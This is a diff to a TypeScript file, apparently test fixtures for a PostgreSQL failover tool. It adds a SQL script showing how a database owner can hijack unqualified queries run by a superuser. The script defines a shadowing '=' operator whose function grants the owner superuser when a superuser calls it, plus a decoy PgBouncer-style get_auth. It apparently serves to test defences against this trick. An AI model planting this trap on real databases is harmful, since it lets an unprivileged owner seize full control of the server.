@@ -332,3 +332,19 @@ export function thawContainer(init: number | undefined, pids: readonly number[])
     }
   }
 }
+
+/**
+ * What the owner of a database can plant to hijack SQL a superuser runs there unqualified: an
+ * exact-match `=` for (oid, regnamespace) whose function makes the owner superuser when a
+ * superuser calls it, and a `get_auth` named like PgBouncer's. Run in that database as a superuser.
+ */
+export const PLANTED_BY_DATABASE_OWNER = `SET ROLE app_owner;
+CREATE FUNCTION public.pgha_trap(oid, regnamespace) RETURNS boolean LANGUAGE plpgsql AS $f$
+BEGIN
+  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
+    EXECUTE 'ALTER ROLE app_owner SUPERUSER';
+  END IF;
+  RETURN $1 OPERATOR(pg_catalog.=) $2::oid;
+END $f$;
+CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regnamespace, FUNCTION = public.pgha_trap);
+CREATE FUNCTION public.get_auth(text) RETURNS TABLE(usename name, passwd text) LANGUAGE sql AS $f$ SELECT NULL::name, NULL::text $f$;`;
